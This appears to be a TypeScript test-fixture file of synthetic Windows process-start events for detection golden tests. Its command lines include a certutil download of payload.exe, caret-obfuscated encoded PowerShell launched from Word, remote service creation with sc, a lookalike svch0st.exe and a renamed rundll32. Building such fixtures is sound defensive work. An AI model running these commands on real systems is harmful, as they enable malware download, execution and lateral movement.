// Hand-written, real-looking process starts used by the feature golden tests.

import type { ProcessEvent } from '../normalize/process-event.js';

const base = (process: ProcessEvent['process'], user: ProcessEvent['user'] = {}): ProcessEvent => ({
  '@timestamp': '2026-01-05T10:00:00.000Z',
  event: { kind: 'event', category: ['process'], type: ['start'] },
  host: { name: 'WS-01' },
  user,
  process,
});

export const CERTUTIL = base(
  {
    name: 'certutil.exe',
    executable: 'C:\\Windows\\System32\\certutil.exe',
    command_line: 'certutil.exe -urlcache -split -f "http://10.0.0.5/payload.exe" C:\\Users\\bob\\AppData\\Local\\Temp\\p.exe',
    pe: { original_file_name: 'CertUtil.exe' },
    parent: { name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe' },
    integrity_level: 'Medium',
  },
  { name: 'bob', id: 'S-1-5-21-1004336348-1177238915-682003330-1105' },
);

export const CARET_CMD = base(
  {
    name: 'cmd.exe',
    executable: 'C:\\Windows\\System32\\cmd.exe',
    command_line: 'cmd.exe /c p^o^w^e^r^s^h^e^l^l -enc SQBFAFgA',
    parent: { name: 'WINWORD.EXE', executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' },
  },
  { name: 'SYSTEM', id: 'S-1-5-18' },
);

export const RUNDLL_HEX = base({
  name: 'rundll32.exe',
  executable: 'C:\\Windows\\SysWOW64\\rundll32.exe',
  command_line: 'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL {12345678-1234-1234-1234-123456789abc} 0xDEADBEEF 1234567 deadbeefcafe',
  parent: { name: 'explorer.exe', executable: 'C:\\Windows\\explorer.exe' },
});

export const LOOKALIKE = base(
  {
    name: 'svch0st.exe',
    executable: 'C:\\Users\\alice\\Downloads\\svch0st.exe',
    command_line: '"C:\\Users\\alice\\Downloads\\svch0st.exe" -k netsvcs',
    pe: { original_file_name: 'svch0st.exe' },
    parent: { name: 'explorer.exe', executable: 'C:\\Windows\\explorer.exe' },
  },
  { name: 'alice', id: 'S-1-5-21-1-2-3-1001' },
);

export const REMOTE_SC = base({
  name: 'sc.exe',
  executable: 'C:\\Windows\\System32\\sc.exe',
  command_line: 'sc \\\\dc01 create evil binpath= C:\\x.exe',
  parent: { name: 'powershell.exe', executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' },
});

export const RENAMED_RUNDLL = base({
  name: 'notepad.exe',
  executable: 'C:\\ProgramData\\notepad.exe',
  command_line: 'notepad.exe C:\\ProgramData\\x.dll,Start',
  pe: { original_file_name: 'RUNDLL32.EXE' },
  parent: { name: 'wmiprvse.exe', executable: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe' },
});

export const EMPTY: ProcessEvent = base({});
